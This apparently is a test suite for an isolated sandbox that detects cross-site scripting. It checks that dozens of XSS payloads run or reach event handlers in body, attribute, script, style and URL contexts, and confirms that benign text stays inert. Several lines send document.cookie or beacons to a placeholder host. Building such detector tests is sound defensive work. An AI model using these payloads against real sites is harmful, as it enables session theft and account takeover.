import { afterAll, describe, expect, test } from "bun:test"
import fc from "fast-check"
import { startIsolatedTwin } from "../../support/isolated-twin.ts"

const twin = await startIsolatedTwin("xss")
afterAll(() => twin?.close())
const withTwin = describe.skipIf(twin === undefined)

async function run(payload: string, templates?: string[]) {
  const answer = await twin?.run({ payload, ...(templates && { templates }) })
  if (answer === undefined) throw new Error("no isolated twin")
  return answer
}

async function effectsIn(template: string, payload: string): Promise<readonly string[]> {
  const { attempts } = await run(payload, [template])
  return attempts.flatMap(({ effects }) => effects.map(({ kind, detail }) => `${kind}: ${detail}`))
}

withTwin("domTwin, by context", () => {
  test.each([
    ["body", "<script>alert(7)</script>"],
    ["attribute-unquoted", "x><script>alert(7)</script>"],
    ["attribute-single", "'><script>alert(7)</script>"],
    ["attribute-double", '"><script>alert(7)</script>'],
    ["src", "javascript:parent.alert(7)"],
    ["srcdoc", "<script>alert(7)</script>"],
    ["style", "}</style><script>alert(7)</script>"],
    ["comment", "--><script>alert(7)</script>"],
    ["title", "</title><script>alert(7)</script>"],
    ["textarea", "</textarea><script>alert(7)</script>"],
    ["json-block", "</script><script>alert(7)</script>"],
    ["script-single", "';alert(7)//"],
    ["script-double", '"-alert(7)-"'],
    ["script-single-escaped", "\\';alert(7)//"],
    ["script-double-escaped", '\\";alert(7)//'],
    ["script-template", "$" + "{alert(7)}"],
    ["json-script", '"};alert(7)//'],
    ["json-argument", '"});alert(7)//'],
    ["body/url-decoded", "%3Cscript%3Ealert(7)%3C%2Fscript%3E"],
  ])("runs the script in %p", async (template, payload) => {
    expect(await effectsIn(template, payload)).toEqual(['script_run: alert("7")'])
  })

  test.each([
    ["body", "<img src=x onerror=alert(7)>"],
    ["body", "<svg/onload=alert`7`>"],
    ["attribute-unquoted", "x onclick=alert(7)"],
    ["attribute-double", '" autofocus onfocus="alert(7)'],
    ["href", "java\tscript:alert(7)"],
    ["event-handler-single", "');alert(7)//"],
    ["event-handler-single", "&#39;);alert(7)//"],
    ["event-handler-double", '");alert(7)//'],
    ["src-image", 'x" onerror="alert(7)'],
    ["style-attribute", 'red" onmouseover="alert(7)'],
    ["body", "<form action=javascript:alert(7)><input type=submit>"],
    ["body", "<svg><animate onbegin=alert(7) attributeName=x dur=1s>"],
  ])("says that a handler is reachable in %p by %p", async (template, payload) => {
    expect(await effectsIn(template, payload)).toEqual(['handler_reachable: alert("7")'])
  })
})

withTwin("domTwin, by what a script does", () => {
  test.each([
    ["eval(atob('YWxlcnQoNyk='))", 'alert("7")'],
    ["setTimeout('alert(7)', 5000)", 'alert("7")'],
    ["Promise.resolve(7).then(alert)", 'alert("7")'],
    ["onerror=alert;throw 7", 'alert("'],
    ["fetch('//192.0.2.1/?'+document.cookie)", 'fetch("//192.0.2.1/?session=0011'],
    ["new Image().src='//192.0.2.1'", "HTMLImageElement.src"],
    ["location='https://192.0.2.1/'", "navigation"],
    ["var r=new XMLHttpRequest();r.open('GET','//192.0.2.1')", "XMLHttpRequest.open"],
    ["navigator.sendBeacon('//192.0.2.1')", "sendBeacon"],
    ["new WebSocket('wss://192.0.2.1')", "WebSocket"],
    ["document.body.innerHTML='owned'", "innerHTML"],
    ["console.log(7)", "console.log"],
    ["confirm() && prompt(7)", "prompt"],
    ["print()", "print"],
  ])("sees %p", async (code, seen) => {
    const effects = await effectsIn("body", `<script>${code}</script>`)
    expect(effects.filter((text) => text.includes(seen))).not.toEqual([])
  })

  test("sees a script that is loaded from elsewhere, and loads nothing", async () => {
    expect(await effectsIn("body", "<script src=//192.0.2.1/x.js></script>")).toEqual([
      "script_run: a script is loaded from //192.0.2.1/x.js",
    ])
  })
})

withTwin("domTwin, of what is no attack", () => {
  test.each([
    ...["<b>bold</b>", "5 < 6", '<a href="https://example.com">x</a>', "alert box", "alert(1)"],
    ...["# Title\n\n- `code`\n\n```js\nalert(1)\n```", "use `alert(1)` in JS", "it's", '"quoted"'],
    ...["javascript: the good parts", "Use <script> for code", "$" + "{price}", "{{ name }}"],
    ...['<img src="/photo.jpg" alt="x">', "<p onfoo=alert(1)>", "if (a < b) { alert }", "\\", "\0"],
    ...[
      "<style>p{color:red}</style>",
      "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>",
      "<iframe src=https://example.com>",
      "%3Cb%3E",
    ],
  ])("has no effect for %p", async (payload) => {
    const { attempts, controlAttempts, inconclusive } = await run(payload)
    expect({ attempts, controlAttempts, inconclusive }).toEqual({
      ...{ attempts: [], controlAttempts: [], inconclusive: undefined },
    })
  })
})

withTwin("domTwin, of hostile payloads", () => {
  test("stops a loop around a hook", async () => {
    expect(await effectsIn("body", "<script>while (1) alert(7)</script>")).toContain(
      'script_run: alert("7")',
    )
  })

  test("outlives what a page throws and rejects behind its back", async () => {
    const code = "Promise.reject(1);setTimeout(()=>{throw 1});({get a(){throw 1}}).a"
    expect((await run(`<script>${code}</script>`)).attempts).toEqual([])
    expect((await run("<script>alert({toString(){throw 1}})</script>")).attempts).not.toEqual([])
  })

  test("is total, answers the same twice, and sees nothing in letters and digits", async () => {
    const templates = ["body", "attribute-unquoted", "script-single", "event-handler-double"]
    const piece = fc.oneof(
      fc.constantFrom(
        "<script>",
        "</script>",
        "<img ",
        "onerror=",
        "<!--",
        "javascript:",
        "alert(1)",
      ),
      fc.constantFrom(..."<>\"'`=&;/\\{}()$# \n"),
      fc.string({ unit: "binary", maxLength: 3 }),
    )
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 12 }), async (pieces) => {
        const first = await run(pieces.join(""), templates)
        expect(first.controlAttempts).toEqual([])
        expect(await run(pieces.join(""), templates)).toEqual(first)
      }),
      { numRuns: 40 },
    )
    await fc.assert(
      fc.asyncProperty(fc.stringMatching(/^[A-Za-z0-9 ]{0,40}$/), async (text) => {
        expect((await run(text)).attempts).toEqual([])
      }),
      { numRuns: 20 },
    )
  }, 60_000)
})
